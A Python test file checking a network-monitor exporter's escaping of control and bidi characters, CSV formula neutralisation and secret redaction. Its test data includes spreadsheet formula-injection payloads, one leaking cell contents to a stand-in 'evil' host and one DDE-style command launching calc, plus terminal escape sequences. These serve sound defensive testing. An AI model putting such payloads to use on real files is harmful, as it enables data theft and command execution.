"""text_safety and redaction: untrusted text is escaped, bounded, neutralised and redacted."""

from __future__ import annotations

import csv
import json
import os
import re
import sys
import unicodedata
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from netmon_exporter.analysis import WindowAnalysis
from netmon_exporter.detection import Detection
from netmon_exporter.flow_schema import make_batch, str_to_addrs
from netmon_exporter.flows.flow_csv import FlowCsvWriter, read_flow_csv
from netmon_exporter.redaction import REDACTED, redact_secrets, redact_url
from netmon_exporter.summarise import build_prompt, template_summary
from netmon_exporter.text_safety import (
    UNSAFE_CATEGORIES,
    clean_data,
    clean_text,
    csv_cell,
    escape_log_value,
    escape_text,
    plain_text,
)
from netmon_exporter.window import ClosedWindow, build_report

HOSTILE = "a\rb\x1b[31mc\x0bd\x0ce\x85f\u2028g\u2029h\u202ei\u2066j\x00k\ufeffl\U000e0041m"
BAD_NAME = os.fsdecode(b"bad-\xff.pcap")

_SPECIALS = list('\\"= \r\n\t\x1b\x7f\x85\u2028\u2029\u202e\u200b\udcff\udc80\U000e0041xu')
TEXT = st.text(
    alphabet=st.one_of(
        st.characters(),
        st.characters(categories=["Cc", "Cf", "Cs", "Zl", "Zp"]),
        st.sampled_from(_SPECIALS),
    )
)


def unsafe_in(text: str) -> list[str]:
    return [c for c in text if unicodedata.category(c) in UNSAFE_CATEGORIES]


_ESCAPE = r'\\(?:[\\nrt"]|x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8})'
_ESCAPE_RE = re.compile(_ESCAPE)
_SHORT = {"\\": "\\", "n": "\n", "r": "\r", "t": "\t", '"': '"'}


def undo_log_value(token: str) -> str:
    """The reader's side of escape_log_value: every backslash must start a known escape."""
    if token.startswith('"'):
        assert token.endswith('"') and len(token) >= 2
        token = token[1:-1]
        assert re.fullmatch(rf'(?:[^\\"]|{_ESCAPE})*', token), token
    else:
        assert token and re.fullmatch(rf'(?:[^\\" =]|{_ESCAPE})*', token), token

    def one(m: re.Match[str]) -> str:
        s = m.group()
        if s[1] in _SHORT:
            return _SHORT[s[1]]
        code = int(s[2:], 16)
        return chr(0xDC00 + code) if s[1] == "x" else chr(code)

    return _ESCAPE_RE.sub(one, token)


# ------------------------------------------------------------------ the unsafe set


def test_every_unsafe_code_point_of_this_python_is_covered() -> None:
    """The listed ranges are a superset of what this Python's Unicode data calls unsafe."""
    missed = [
        f"U+{c:04X}"
        for c in range(sys.maxunicode + 1)
        if unicodedata.category(chr(c)) in UNSAFE_CATEGORIES and escape_text(chr(c)) == chr(c)
    ]
    assert missed == []


# ------------------------------------------------------------------ logs


@settings(max_examples=400)
@given(TEXT)
def test_escape_log_value_is_one_safe_token_and_reversible(text: str) -> None:
    token = escape_log_value(text)
    assert not [c for c in token if unicodedata.category(c) in {"Cc", "Zl", "Zp"}]
    assert not unsafe_in(token)
    assert undo_log_value(token) == text


@given(TEXT, TEXT)
def test_distinct_values_stay_distinct_in_logs(a: str, b: str) -> None:
    if a != b:
        assert escape_log_value(a) != escape_log_value(b)


def test_escapes_are_readable() -> None:
    assert escape_text(HOSTILE) == (
        "a\\rb\\u001b[31mc\\u000bd\\u000ce\\u0085f\\u2028g\\u2029h\\u202ei\\u2066j\\u0000k"
        "\\ufeffl\\U000e0041m"
    )
    assert escape_text(BAD_NAME) == "bad-\\xff.pcap"
    assert escape_text(b"bad-\xff.pcap") == "bad-\\xff.pcap"
    assert escape_text(Path(BAD_NAME)) == "bad-\\xff.pcap"
    assert escape_text("C:\\x") == "C:\\\\x"
    assert escape_log_value("") == '""'
    assert escape_log_value('a "b"=c') == '"a \\"b\\"=c"'
    assert escape_log_value("plain") == "plain"


# ------------------------------------------------------------------ traffic text


@given(TEXT, st.integers(min_value=0, max_value=60))
def test_clean_text_is_safe_bounded_and_idempotent(text: str, limit: int) -> None:
    out = clean_text(text, limit)
    assert not unsafe_in(out)
    assert len(out) <= limit
    assert clean_text(text) == clean_text(clean_text(text))
    if len(clean_text(text)) <= limit:
        assert out == clean_text(text)


def test_clean_text_never_cuts_an_escape_in_half() -> None:
    assert clean_text("abc\x1bdef", 9) == "abc…"
    assert clean_text("abc\x1bdef", 10) == "abc\\u001b…"
    assert clean_text("x" * 10, 5) == "xxxx…"
    assert clean_text("already \\u001b escaped") == "already \\u001b escaped"


@given(TEXT, st.integers(min_value=0, max_value=60))
def test_plain_text_is_one_trimmed_line(text: str, limit: int) -> None:
    out = plain_text(text, limit)
    assert not unsafe_in(out) and len(out) <= limit
    assert not re.search(r"\s", out.replace(" ", "")) and "  " not in out
    assert out == out.strip()


def test_plain_text_turns_line_breaks_into_spaces() -> None:
    assert plain_text("One.\r\n\nTwo\u2028three\x85four\tfive\x1b[0m\u202e.") == (
        "One. Two three four five."
    )


def test_plain_text_drops_terminal_sequences_whole() -> None:
    assert plain_text("\x1b[1;31mred\x1b[0m \x1b]0;title\x07ok \x9b2Jx") == "red ok x"


def test_clean_data_cleans_keys_and_nested_strings_only() -> None:
    data = {"k\n": [("v\x1b", 3), {"n": np.int64(2), "f": 1.5, "b": True, "z": None}], 7: "x"}
    assert clean_data(data) == {
        "k\\n": [["v\\u001b", 3], {"n": 2, "f": 1.5, "b": True, "z": None}],
        7: "x",
    }


# ------------------------------------------------------------------ CSV cells


@pytest.mark.parametrize(
    "value,cell",
    [
        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
        ("+cmd", "'+cmd"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\t=1", "\\t=1"),  # escaped: no longer starts with a tab
        ("-1", "-1"),
        ("-0.5", "-0.5"),
        ("+3e2", "+3e2"),
        ("-1+2", "'-1+2"),
        ("example.com", "example.com"),
        ("a\nb", "a\\nb"),
        ("", ""),
    ],
)
def test_csv_cell(value: str, cell: str) -> None:
    assert csv_cell(value) == cell


def test_flow_csv_text_cells_neutralised_numbers_kept(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    n = 3
    batch = make_batch(
        n,
        src_ip=str_to_addrs(["10.0.0.1"] * n),
        dst_ip=str_to_addrs(["10.0.0.53"] * n),
        src_port=[5000, 5001, 5002],
        dst_port=[53] * n,
        protocol=[17] * n,
        first_ts=[1_700_000_000.0] * n,
        last_ts=[1_700_000_001.0] * n,
        dns_qname=[formula, "-evil\x1b[2J.example", "ok.example"],
        label=["@x", "-1", "BENIGN"],
        **{"Init Fwd Win Byts": [-1.0, -0.5, 64240.0]},
    )
    path = tmp_path / "out.csv"
    writer = FlowCsvWriter(path)
    writer.write(batch)
    writer.close()
    with path.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["dns_qname"] for r in rows] == [
        "'" + formula,
        "'-evil\\u001b[2J.example",
        "ok.example",
    ]
    assert [r["Label"] for r in rows] == ["'@x", "-1", "BENIGN"]
    assert [r["Init Fwd Win Byts"] for r in rows] == ["-1", "-0.5", "64240"]
    back = next(read_flow_csv(path))
    assert back["dns_qname"][0] == "'" + formula
    assert back["Init Fwd Win Byts"].tolist() == [-1.0, -0.5, 64240.0]


# ------------------------------------------------------------------ reports and prompts


def _hostile_report() -> dict[str, object]:
    name = "x\x1b]0;pwned\x07.\u202etxt.evil\u2028example\r\n"
    det = Detection(
        "dns_tunnel",
        "warning",
        "10.0.0.9",
        name,
        1_700_000_000.0,
        1_700_000_060.0,
        {"unique_names": 40, "sample_names": [name, "a\x00b"]},
        f"10.0.0.9 queried 40 distinct names under {name}",
    )
    flows = make_batch(
        1,
        src_ip=str_to_addrs(["10.0.0.9"]),
        dst_ip=str_to_addrs(["10.0.0.53"]),
        protocol=[17],
        first_ts=[1_700_000_010.0],
        last_ts=[1_700_000_011.0],
    )
    analysis = WindowAnalysis([det], {"benign": 1}, np.zeros(0), 1, 0.01)
    return build_report(
        ClosedWindow(1_700_000_000.0, 1_700_000_060.0, flows), analysis, "summary", 5
    )


def test_window_report_from_hostile_dns_name_has_no_unsafe_characters() -> None:
    report = _hostile_report()
    decoded = json.loads(json.dumps(report))  # as a reader of the report file sees it
    text = json.dumps(decoded, ensure_ascii=False)
    assert not unsafe_in(text)
    target = decoded["detections"][0]["target"]
    assert target == "x\\u001b]0;pwned\\u0007.\\u202etxt.evil\\u2028example\\r\\n"


def test_prompt_and_template_from_hostile_dns_name_have_no_unsafe_characters() -> None:
    raw = _hostile_report()
    raw["detections"][0]["target"] = "evil\x1b\u2028\u202e.example"  # type: ignore[index]
    for report in (raw, json.loads(json.dumps(raw))):
        prompt = build_prompt(report)
        body = prompt.split("\n", 1)[1]
        assert not unsafe_in(body)
        data = json.loads(body)
        assert data["detections"][0]["target"] == "evil\\u001b\\u2028\\u202e.example"
        assert data["detections"][0]["evidence"]["sample_names"].startswith("x\\u001b]0;")
        assert not unsafe_in(template_summary(report))


# ------------------------------------------------------------------ redaction


@pytest.mark.parametrize(
    "text,kept,gone",
    [
        ("error: bad key Bearer sk-live-0123456789abcdef", "Bearer [REDACTED]", "sk-live"),
        ('{"headers": {"Authorization": "Bearer sk-abc12345"}}', "Authorization", "sk-abc"),
        ("Authorization: Basic dXNlcjpwYXNz", "Authorization: [REDACTED]", "dXNlcjpwYXNz"),
        ("fetch http://u:p4ss@h.example/x failed", "http://[REDACTED]@h.example/x", "p4ss"),
        ("GET /v1?api_key=abc123&x=1", "api_key=[REDACTED]&x=1", "abc123"),
        ("GET /v1?access_token=zzz9", "access_token=[REDACTED]", "zzz9"),
        ('{"password": "hunter2", "user": "bob"}', '"user": "bob"', "hunter2"),
        ("X-Api-Key: k-998877", "X-Api-Key: [REDACTED]", "998877"),
    ],
)
def test_redact_secrets_shapes(text: str, kept: str, gone: str) -> None:
    out = redact_secrets(text)
    assert kept in out and gone not in out and REDACTED in out
    assert redact_secrets(out) == out


def test_redact_secrets_leaves_prose_alone() -> None:
    prose = "Basic authentication failed; the bearer of this token expired. Key refused."
    assert redact_secrets(prose) == prose
    assert redact_secrets("a secret-ish s3cr3t value", "s3cr3t") == "a secret-ish [REDACTED] value"
    assert redact_url("http://u:p@h:1/x?y=1") == "http://h:1/x?y=1"
